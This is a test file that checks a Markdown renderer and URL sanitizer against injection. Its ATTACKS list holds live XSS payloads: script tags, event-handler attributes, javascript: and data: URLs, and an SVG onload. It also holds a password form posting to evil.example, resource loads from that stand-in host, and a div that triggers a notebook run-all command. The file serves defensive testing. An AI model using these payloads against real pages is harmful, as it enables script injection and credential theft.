import { describe, expect, it } from "vitest";

import { MarkdownView } from "../../src/render/markdown";
import { safeAddress } from "../../src/render/sanitize";

function drawn(text: string): HTMLElement {
  const view = new MarkdownView();
  // Both ways a text can arrive: cut into pieces and at once.
  for (let end = 1; end < text.length; end += 5) view.update(text.slice(0, end), false);
  view.update(text, true);
  document.body.replaceChildren(view.node);
  return view.node;
}

const ATTACKS = [
  "<script>window.hit = 1</script>",
  "<img src=x onerror=window.hit=1>",
  "<svg onload=window.hit=1><script>window.hit=1</script></svg>",
  "<math><mi//xlink:href='data:x,<script>window.hit=1</script>'>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<a href='javascript:window.hit=1'>a</a>",
  "[a](javascript:window.hit=1)",
  "[a](JaVaScRiPt&colon;window.hit=1)",
  "[a](  java\nscript:window.hit=1)",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](vbscript:msgbox)",
  "<javascript:window.hit=1>",
  "![x](javascript:window.hit=1)",
  '![x](" onerror="window.hit=1)',
  "<b onmouseover=window.hit=1 style='position:fixed;inset:0'>x</b>",
  "<div class='jp-Button vc-send' id='vc' data-commandlinker-command='notebook:run-all-cells'>x</div>",
  "<form action='https://evil.example'><input name=key type=password><button>go</button></form>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<video src=https://evil.example/v poster=https://evil.example/p></video>",
  "<picture><source srcset=https://evil.example/s><img src=https://evil.example/i></picture>",
  "<table background=https://evil.example/b><tr><td>x</td></tr></table>",
  "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
  "```html\n<img src=x onerror=window.hit=1>\n```",
  "```\"><img/src/onerror=window.hit=1>\ncode\n```",
  "`<script>window.hit=1</script>`",
  "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
  "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
  "<template><img src=https://evil.example/t></template>",
  "<a href='https://ok.example' target=_self ping=https://evil.example/p>x</a>",
];

describe.each(ATTACKS)("%s", (attack) => {
  it("leaves nothing that runs, loads, submits, commands or restyles", () => {
    const node = drawn(`Before\n\n${attack}\n\nafter`);
    const elements = [...node.querySelectorAll("*")];
    const names = new Set(elements.map((e) => e.localName));
    for (const name of "script iframe object embed link style base form video audio source template math img".split(" ")) {
      expect(names.has(name), name).toBe(false);
    }
    for (const element of elements) {
      // Icons and code blocks are the panel's own; nothing of the attack can be inside but text.
      const own = element.closest("svg, .vc-code-bar") !== null;
      for (const { name, value } of element.attributes) {
        expect(name.startsWith("on"), name).toBe(false);
        expect(["id", "style", "srcset", "poster", "background", "ping", "action", "name", "src"]).not.toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
        if (name.startsWith("data-")) expect.unreachable(name);
        if (name === "class" && !own) {
          for (const c of value.split(" ")) expect(c).toMatch(/^(hljs|language-|vc-(code|table|image)|[a-z]+_$)/);
        }
      }
    }
    expect((window as unknown as { hit?: number }).hit).toBeUndefined();
    expect(node.textContent).toContain("Before");
  });
});

describe("links", () => {
  it("open a new tab, tell the other side nothing and name their full address", () => {
    const link = drawn("[short](https://example.org/a/very/long?query=1#x)").querySelector("a");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.title).toContain("https://example.org/a/very/long?query=1#x");
  });

  it("that lead nowhere safe are plain text", () => {
    const node = drawn("[home](/lab) and [up](../x.ipynb) and [there](//evil.example)");
    expect(node.querySelector("a")).toBeNull();
    expect(node.textContent?.trim()).toBe("home and up and there");
  });
});

describe("images", () => {
  it("are not loaded until their button, which shows the address in full, is clicked", () => {
    const node = drawn("![a chart](https://example.org/chart.png?user=1)");
    expect(node.querySelector("img")).toBeNull();
    const button = node.querySelector("button");
    expect(button?.textContent).toContain("https://example.org/chart.png?user=1");
    button?.click();
    const image = node.querySelector("img");
    expect(image?.src).toBe("https://example.org/chart.png?user=1");
    expect(image?.alt).toBe("a chart");
    expect(image?.referrerPolicy).toBe("no-referrer");
  });

  it("that are in the text itself are drawn, and ask nobody", () => {
    const image = drawn("![words](data:image/png;base64,AAAA)").querySelector("img");
    expect([image?.src, image?.alt]).toEqual(["data:image/png;base64,AAAA", "words"]);
  });

  it("that did not load are offered again", () => {
    const node = drawn("![x](https://example.org/x.png)");
    node.querySelector("button")?.click();
    node.querySelector("img")?.dispatchEvent(new Event("error"));
    expect(node.querySelector("button")?.textContent).toContain("Not loaded: https://example.org/x.png");
  });

  it("that are documents, or scripts, are never offered", () => {
    const node = drawn("![secret chart](data:image/svg+xml,<svg/onload=alert(1)>)");
    expect(node.querySelector("img, button")).toBeNull();
    expect(drawn("![words](data:text/html;base64,AAAA)").textContent).toContain("words");
  });

  it("inside a link load without following it", () => {
    const node = drawn("[![badge](https://example.org/b.svg)](https://example.org)");
    let followed = false;
    node.addEventListener("click", () => (followed = true));
    node.querySelector("button")?.click();
    expect(followed).toBe(false);
    expect(node.querySelector("a img")).not.toBeNull();
  });
});

it.each([
  ["https://example.org", "https://example.org/"],
  ["mailto:a@example.org", "mailto:a@example.org"],
  [" https://example.org ", "https://example.org/"],
  ["java\tscript:alert(1)", null],
  ["file:///etc/passwd", null],
  ["blob:https://example.org/1", null],
  ["lab/tree", null],
  [null, null],
])("safeAddress of %s is %s", (address, safe) => expect(safeAddress(address)).toBe(safe));
